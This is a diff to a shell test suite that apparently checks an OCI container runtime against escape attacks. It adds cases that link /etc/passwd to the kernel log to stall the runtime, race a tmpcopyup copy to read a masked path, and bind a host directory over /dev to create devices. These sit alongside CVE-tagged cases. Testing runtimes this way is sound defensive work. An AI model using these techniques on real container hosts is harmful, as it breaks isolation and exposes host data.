@@ -221,6 +221,42 @@ attack_passwd_pipe() { # a pipe as /etc/passwd: the runtime waits for it
     esac
 }
 
+attack_passwd_kernel() { # it is the kernel's log, which has no end
+    ln -sf /proc/kmsg $image/etc/passwd
+    config true '' "$dev"
+    timeout -k 1 5 "$program" --root $work/states run -b $bundle "$id"
+    case $? in
+    124 | 137) return 0 ;; # its time was up
+    *) return 1 ;;
+    esac
+}
+
+attack_copy_race() { # what is copied to a tmpfs becomes a link to a masked path
+    mkdir -p $work/shared/place $image/etc/hidden
+    echo 'a masked secret' > $image/etc/hidden/key
+    ln -s /etc/hidden $work/shared/other
+    config 'cat /vol/place/key /vol/other/key' '' "$dev
+        , {\"destination\": \"/vol\", \"type\": \"bind\", \"source\": \"$work/shared\", \"options\": [\"rbind\"]}
+        , {\"destination\": \"/vol/place\", \"type\": \"tmpfs\", \"source\": \"tmpfs\", \"options\": [\"tmpcopyup\"]}" \
+        ', "maskedPaths": ["/etc/hidden"]'
+    "$attacks/oci/swap" $work/shared/place $work/shared/other &
+    swap=$!
+    status=1
+    for _ in $(seq 60); do
+        run | grep 'masked secret' && status=0 && break
+    done
+    kill $swap
+    wait $swap
+    return $status
+}
+
+attack_device_volume() { # a volume over /dev: devices are made in it
+    config true '' "$dev, {\"destination\": \"/dev\", \"type\": \"bind\", \"source\": \"$host\", \"options\": [\"rbind\"]}" \
+        ', "devices": [{"path": "/dev/disk", "type": "b", "major": 259, "minor": 0}]'
+    run
+    [ -e $host/disk ] || [ -e $host/null ]
+}
+
 attack_hook_rights() { # the image has a program of its own where a hook is
     mkdir -p $image/hook
     printf '#!/bin/sh\nmknod /hook/disk b 259 0\n' > $image/hook/program
@@ -364,7 +400,10 @@ row mask_null CVE-2025-31133 "masked with the image's /dev/null, which is a link
 row null_mode CVE-2025-31133 "change the host's /dev/null by a masked path"
 row console_link CVE-2025-52565 "/dev/console is a link out of the image"
 row device_link CVE-2025-52565 "/dev is a link to a volume of the host: devices in it"
+row device_volume - "a volume over a /dev of its own: devices in it"
 row passwd_pipe - "/etc/passwd is a pipe: hold the runtime up"
+row passwd_kernel - "/etc/passwd is a link to the kernel's log: the same, and it is read away"
+row copy_race - "what is copied to a tmpfs becomes a link to a masked path"
 row hook_rights - "a program of the image as a startContainer hook: all capabilities"
 row exec_overwrite CVE-2019-5736 "write to the runtime's own program file"
 row exec_peek CVE-2016-9962 "look into the runtime while it comes in"
